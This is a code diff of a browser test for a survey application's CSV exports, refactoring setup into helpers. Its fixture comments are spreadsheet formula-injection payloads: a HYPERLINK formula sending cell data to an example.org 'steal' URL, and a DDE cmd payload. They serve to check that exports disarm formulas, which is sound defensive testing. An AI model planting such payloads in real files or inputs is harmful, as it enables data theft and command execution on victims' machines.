@@ -2,27 +2,21 @@
 // exports page in a browser against the real server, and each file is read as a spreadsheet would
 // read it: UTF-8 with its accents, a header row, no cell taken for a formula, its hash listed.
 import { expect } from 'chai';
-import { execFile } from 'node:child_process';
 import { createHash } from 'node:crypto';
 import { readFile } from 'node:fs/promises';
-import { promisify } from 'node:util';
 import { parse } from 'csv-parse/sync';
 import type { Browser, Locator, Page } from 'playwright-core';
-import { DEMO_EMAIL_DOMAIN, DEMO_MEMBER_STATES, DEMO_PASSWORDS, currentSurveyInput } from '../../db/seeds/demo-content.js';
+import { DEMO_MEMBER_STATES } from '../../db/seeds/demo-content.js';
 import { en } from '../../server/i18n/en.js';
 import { exportsCatalogue } from '../../server/i18n/areas/exports.js';
 import { closeSessions, launchBrowser, openSession, takeScreenshot, type Session, type SessionOptions } from './helpers/browser.js';
-import { clickAndWait, heading, htmlLang, signIn, untranslatedKeys } from './helpers/pages.js';
-import { REPO_ROOT, startServer, type RunningServer } from './helpers/server.js';
+import { clickAndWait, heading, htmlLang, untranslatedKeys } from './helpers/pages.js';
+import { answerAsDelegate, DELEGATE, signedInState, STAFF, startDemoServer, SURVEY, type DemoServer } from './helpers/demo.js';
+import type { RunningServer } from './helpers/server.js';
 
-const run = promisify(execFile);
 const NAMESPACES = [...Object.keys(en), 'voting'];
-const STAFF = { email: `staff@${DEMO_EMAIL_DOMAIN}`, password: DEMO_PASSWORDS.staff };
-/** A member that the demo leaves without a ballot: its delegate answers here, with comments a spreadsheet would run. */
-const DELEGATE = { iso3: 'AUS', email: `delegate.aus@${DEMO_EMAIL_DOMAIN}`, password: DEMO_PASSWORDS.delegate };
 const QUESTION_COMMENTS = ['=HYPERLINK("https://example.org/steal?d="&A1,"Open")', '-2+3+cmd|\' /C calc\'!A0'];
 const GENERAL_COMMENT = '@SUM(1+1) — señalamos la reintegración, ñandú et café';
-const SURVEY = currentSurveyInput(new Date().toISOString());
 const FILE_PREFIX = 'ic-2007-17_international-dialogue-on-migration-2008_';
 const X = exportsCatalogue.en.exports;
 
@@ -116,45 +110,15 @@ describe('Exports journey in a browser', function () {
   }
 
   before(async function () {
-    [server, browser] = await Promise.all([
-      startServer({
-        setupLink: false,
-        // `npm run demo` fills the server's empty database before it starts, as an operator would.
-        beforeStart: async (env) => { demoOutput = (await run(process.execPath, ['--import=tsx', 'db/seeds/demo.ts'], { cwd: REPO_ROOT, env })).stdout; },
-      }),
-      launchBrowser(),
-    ]);
-    surveyId = Number(/survey (\d+) "International Dialogue on Migration 2008"/.exec(demoOutput)?.[1]);
+    let demo: DemoServer;
+    [demo, browser] = await Promise.all([startDemoServer(), launchBrowser()]);
+    ({ server, output: demoOutput, surveyId } = demo);
     demoBallots = Number(/open, with (\d+) ballots/.exec(demoOutput)?.[1]);
-    expect(surveyId).to.be.greaterThan(0);
     expect(demoBallots).to.be.greaterThan(0);
-
     // A delegation the demo left without a ballot answers, with comments that look like formulas.
-    const delegate = await openSession(browser, server.baseUrl, { javaScript: false });
-    sessions.push(delegate);
-    const { page } = delegate;
-    await signIn(page, DELEGATE.email, DELEGATE.password);
-    await page.goto(`/surveys/${surveyId}/ballot`);
-    const fieldsets = page.locator('form.ballot-form fieldset.question');
-    expect(await fieldsets.count()).to.equal(SURVEY.questions.length);
-    for (let q = 0; q < SURVEY.questions.length; q++) {
-      await fieldsets.nth(q).locator('select[id^="rank_"]').first().selectOption('1');
-      await fieldsets.nth(q).locator('textarea[id^="comment_"]').fill(QUESTION_COMMENTS[q]!);
-    }
-    await page.locator('#comments').fill(GENERAL_COMMENT);
-    await clickAndWait(page, page.getByRole('button', { name: 'Review the ballot' }));
-    await clickAndWait(page, page.getByRole('button', { name: 'Submit the ballot' }));
-    expect(new URL(page.url()).pathname).to.match(/^\/surveys\/\d+\/ballot\/receipt\//);
-    expect(delegate.problems).to.deep.equal([]);
-    delegateState = await delegate.context.storageState();
-    await delegate.close();
-    sessions = [];
-
-    const staff = await openSession(browser, server.baseUrl);
-    await signIn(staff.page, STAFF.email, STAFF.password);
-    expect(staff.problems).to.deep.equal([]);
-    staffState = await staff.context.storageState();
-    await staff.close();
+    await answerAsDelegate(browser, server.baseUrl, surveyId, { perQuestion: QUESTION_COMMENTS, general: GENERAL_COMMENT });
+    delegateState = await signedInState(browser, server.baseUrl, DELEGATE);
+    staffState = await signedInState(browser, server.baseUrl, STAFF);
   });
 
   afterEach(async function () {
